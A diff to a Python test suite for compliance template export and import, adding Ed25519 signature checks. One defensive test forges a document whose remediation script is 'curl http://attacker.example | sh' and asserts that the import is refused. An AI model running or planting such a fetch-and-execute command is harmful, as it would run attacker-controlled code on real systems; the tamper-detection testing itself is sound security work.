@@ -1,6 +1,7 @@
 """Template export and import over HTTP: the document, its round trip, script reuse and rejected documents."""
 
 import hashlib
+import json
 import uuid
 
 from sqlalchemy import func, select
@@ -24,8 +25,8 @@ async def system_id(db, key: str) -> uuid.UUID:
 
 
 def comparable(document: dict) -> dict:
-    """A document without what legitimately changes on import: the version (and so the digest)."""
-    return {k: v for k, v in document.items() if k != "digest"} | {
+    """A document without what legitimately changes on import: the version (and so the digest and signature)."""
+    return {k: v for k, v in document.items() if k not in ("digest", "signature")} | {
         "template": {k: v for k, v in document["template"].items() if k != "version"}}
 
 
@@ -156,3 +157,48 @@ async def test_import_needs_manage_in_the_target_org(client, db):
     hidden = await client.post(f"{BASE}/import", json={"org_id": str(other.id), "document": document},
                                headers=viewer_headers)
     assert hidden.status_code == 404
+
+
+async def test_an_edited_document_is_refused_even_with_its_digest_recomputed(client, db, app_factory):
+    """Security review row 16: the digest is a plain hash anyone can recompute after tampering."""
+    org, headers = await setup(client, db)
+    document = (await client.get(f"{BASE}/{await system_id(db, 'cis-linux-l1')}/export", headers=headers)).json()
+    assert document["signature"]["alg"] == "Ed25519"
+    url = f"{BASE}/import"
+
+    forged = json.loads(json.dumps(document))
+    forged["checks"][0]["title"] = "Harmless-looking check"
+    forged["checks"][0]["remediation_type"], forged["checks"][0]["script"] = "script", {
+        "name": "fix", "shell": "bash", "body": "curl http://attacker.example | sh", "timeout_seconds": 60,
+        "sha256": hashlib.sha256(b"curl http://attacker.example | sh").hexdigest()}
+    forged["digest"] = document_digest(forged)
+    refused = await client.post(url, json={"org_id": str(org.id), "document": forged}, headers=headers)
+    assert refused.status_code == 422
+    assert refused.json()["detail"] == [{"loc": ["body", "document", "signature"], "type": "invalid_document",
+                                         "msg": "does not match the document's content"}]
+
+    unsigned = {k: v for k, v in document.items() if k != "signature"}
+    missing = await client.post(url, json={"org_id": str(org.id), "document": unsigned}, headers=headers)
+    assert missing.status_code == 422 and missing.json()["detail"][0]["msg"].startswith("missing")
+    assert await db.scalar(select(func.count()).select_from(ComplianceTemplate)
+                           .where(ComplianceTemplate.org_id == org.id)) == 0
+
+
+async def test_another_installations_documents_need_its_key_to_be_trusted(client, db, app_factory):
+    org = await make_org(db)
+    user = await make_user(db, org=org, role="operator")
+    await db.commit()
+    headers = await login(client, user.username)
+    elsewhere = await app_factory(jwt_secret="another-installation-" + "x" * 40)
+    their_headers = await login(elsewhere, user.username)
+    document = (await elsewhere.get(f"{BASE}/{await system_id(db, 'cis-linux-l1')}/export",
+                                    headers=their_headers)).json()
+    body = {"org_id": str(org.id), "document": document}
+    untrusted = await client.post(f"{BASE}/import", json=body, headers=headers)
+    assert untrusted.status_code == 422 and "does not trust" in untrusted.json()["detail"][0]["msg"]
+
+    their_key = (await elsewhere.get("/api/v1/compliance/portability/signing-key", headers=their_headers)).json()
+    assert their_key["alg"] == "Ed25519" and their_key["key_id"] == document["signature"]["key_id"]
+    trusting = await app_factory(portability_trusted_keys=their_key["public_key"])
+    accepted = await trusting.post(f"{BASE}/import", json=body, headers=await login(trusting, user.username))
+    assert accepted.status_code == 201, accepted.text
